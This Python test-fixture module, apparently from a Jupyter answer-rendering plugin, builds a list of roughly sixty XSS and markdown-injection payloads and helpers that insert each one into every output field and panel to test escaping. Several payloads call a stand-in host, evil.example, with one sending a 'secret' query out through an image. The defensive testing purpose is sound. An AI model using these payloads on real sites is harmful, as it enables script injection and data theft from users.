"""Hostile texts, every place of ours that shows a text from outside, and the forms that it takes there."""

from __future__ import annotations

import dataclasses
import functools
import json
import pathlib
from typing import TYPE_CHECKING

from pplx_jupyter.answer import Answer, Cost, Image, Search, Source
from pplx_jupyter.ledger import Row
from pplx_jupyter.notebook.panel.texts import Texts
from pplx_jupyter.receipt import Failure, Receipt
from pplx_jupyter.render import (
    answer_forms,
    diff_forms,
    failure_forms,
    hint_forms,
    raw_forms,
    state_forms,
    unwritten_forms,
)

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

__all__ = [
    "NOW",
    "OWN",
    "as_answer",
    "collection",
    "elsewhere",
    "everywhere",
    "panels",
    "receipt_of",
    "running",
]

COLLECTION = pathlib.Path(__file__).parents[2] / "shared" / "xss" / "core.jsonl"
NOW = 1_800_000_000.0

OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6a;avascript&#x3a;alert(1))",
    "[x](&amp;#x6a;avascript&amp;#x3a;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](http:foo) [z](//evil.example) [w](/api/kernels) [v](#x)",
    "[x](https://bank.example@evil.example/)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "<javascript://%0aalert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "!\\[x](https://evil.example/i.png)",
    "Wow![1] and !**[1]** and `!`[1]",
    "\\![x](https://evil.example/i.png)",
    "$\\unicode[x;background:url(//evil.example)]{65}$ and $x_1 ![i](https://evil.example/i.png)$",
    "\\(\\href{javascript:alert(1)}{x}\\) $$\\style{position:fixed}{x}$$ \\begin{align}\\unicode{65}\\end{align}",
    "\\(a](javascript:alert(1)\\) $[x](javascript:alert(1))_1$ $<img src=x onerror=alert(1)>_1$",
    "$$\n[r]: javascript:alert(1)\n$$",
    '```html" onmouseover=alert(1)\n<script>\n```',
    "````\n```\n<script>alert(1)</script>\n````",
    "`` ` `<script>alert(1)</script>` ` ``",
    "| a |\n|---|\n| `x|<img src=x onerror=alert(1)>` |",
    "# <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>",
    "<div class=jp-Dialog style='position:fixed' id=x data-commandlinker-command=x>y</div>",
    "{: onclick=alert(1) } {#id} [TOC] *[x]: y",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x0260\x03script\x0262\x03",
    "\ufdd0\u202e\u2066\x00\x1b]8;;http://evil\x07",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<!-- --><![CDATA[<script>alert(1)</script>]]><?php x ?>",
    "</div></details></style><script>alert(1)</script>",
    "](javascript:alert(1)) [a](https://a.example) [",
    "\\\n- x\n\\# y\n1\\. z\n    <script>",
    '<https://a.example/"onmouseover=alert(1)>',
    "https://a.example/'onmouseover=alert(1)//<script>",
    "[1]: javascript:alert(1)\n[2]: <https://evil.example> 'x'",
    "--><script>alert(1)</script><!--",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a.png 1x' alt=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<audio src=https://evil.example/a.mp3 autoplay onerror=alert(1)>",
    "<video poster=https://evil.example/p.png>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=https://evil.example/o.svg></object>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import url(https://evil.example/i.css);</style>",
    "<div style='background:url(https://evil.example/b.png)'>x</div>",
    "[x](https://1.2.3.4.5/) <https://a.example…/> https://[1:2]/ www.a.example… me@a.example",
    "[\\[x\\](javascript:alert(1))](https://a.example)",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>x</b>",
]  # fmt: skip


@functools.cache
def collection() -> list[str]:
    """Give the payloads of the public collections; none where they are not beside this repository."""
    if not COLLECTION.exists():
        return []
    lines = COLLECTION.read_text(encoding="utf-8").strip().split("\n")
    return [json.loads(line)["payload"] for line in lines]


def as_answer(payload: str) -> Mapping[str, str]:
    """Give the forms of an answer whose text this is."""
    return answer_forms(Answer(text=payload, sources=[Source(1, "https://a.example")]))


def everywhere(text: str) -> Answer:
    """Give an answer that has this text in every place."""
    return Answer(
        text=text,
        thinking=text,
        sources=[Source(1, text, text, text, text, text), Source(2, f"https://a.example/{text}", text)],
        images=[Image(text, text, text)],
        related_questions=[text],
        searches=[Search("searched", text), Search("read", text), Search(text, text)],
        cost=Cost(0.1, {text: 0.1}),
        incomplete=text,
        model=text,
        raw={text: text},
    )


def receipt_of(text: str) -> Receipt:
    """Give a receipt that has this text in every place."""
    return Receipt(
        text, text, text, text, text, text, text, text, text, filled={text: text * 9}, version=text
    )


def elsewhere(payload: str) -> Iterator[tuple[str, Mapping[str, str]]]:
    """Give each kind of output of ours with this text wherever a text from outside can stand, by a name."""
    answer, receipt = everywhere(payload), receipt_of(payload)
    cited = dataclasses.replace(answer, text="Seen[1][2].")
    yield "source, suggestion, reasoning", answer_forms(cited, receipt, usual=payload)
    yield "text and all else", answer_forms(answer, receipt, usual=payload)
    yield "in brief", answer_forms(answer, receipt, state_line=False, brief=True)
    yield (
        "values",
        answer_forms(Answer(text=json.dumps([{payload: payload, "b": [payload, {"c": payload}]}]))),
    )
    yield "body not understood", raw_forms(answer, receipt)
    yield "state", state_forms(answer, receipt, usual=payload)
    yield "hint", hint_forms(dataclasses.replace(receipt, job_id="7f3a9c"))
    yield "not written", unwritten_forms(receipt, payload, kept_as=payload)
    yield "comparison", diff_forms(answer.diff(dataclasses.replace(cited, text=f"Other. {payload}")))
    for failure in (
        Failure("failed", payload, fields=[payload], reason=payload),
        Failure("unsupported", payload, fields=[payload], host=payload),
        Failure("unauthorized", payload, key_from=payload, request_id=payload),
    ):
        yield f"error, {failure.kind}", failure_forms(failure, receipt)


def panels(payload: str) -> Iterator[tuple[str, str]]:
    """Give what the live panel shows, as HTML, with this text wherever a text from outside can stand."""
    trouble = {"said": payload, "since": NOW - 60, "next": NOW + 30, "status": 503}
    row = running(payload)
    shown = {
        "steps": dataclasses.replace(row, remote_status="in_progress"),
        "unknown status": row,
        **{
            f"trouble, {kind}": dataclasses.replace(row, trouble={**trouble, "kind": kind})
            for kind in ("no_connection", "not_found", "forbidden", "ledger", "server")
        },
    }
    for name, moment in shown.items():
        for mode in ("watching", "stopped")[: 2 if name == "steps" else 1]:
            texts = Texts.of(moment, NOW, mode=mode, earlier=row, why=payload, said=payload)
            yield f"panel, {name}, {mode}", texts.question + texts.head + texts.line + texts.note


def running(text: str) -> Row:
    """Give a job under way that has this text wherever one from outside can stand."""
    return Row(
        id="7f3a9c", seq=1, state="running", fingerprint="v1:x", request={}, base_url="", account="", backend="agent", pinned=False,
        model=text, effort=text, question=text, name=text, notebook=text, cell="", filled={}, idempotency_key="", created_at=NOW - 134,
        sending_at=NOW - 133, accepted_at=NOW - 132, settled_at=None, due_at=NOW, tries=0, owner="", remote_id=text, remote_status=text,
        request_id=text, moved=False, cancel="", trouble=None, failure=None,
        progress={"searches": 1, "sources": 2, "latest": text}, cost=None, cost_estimated=False,
    )  # fmt: skip
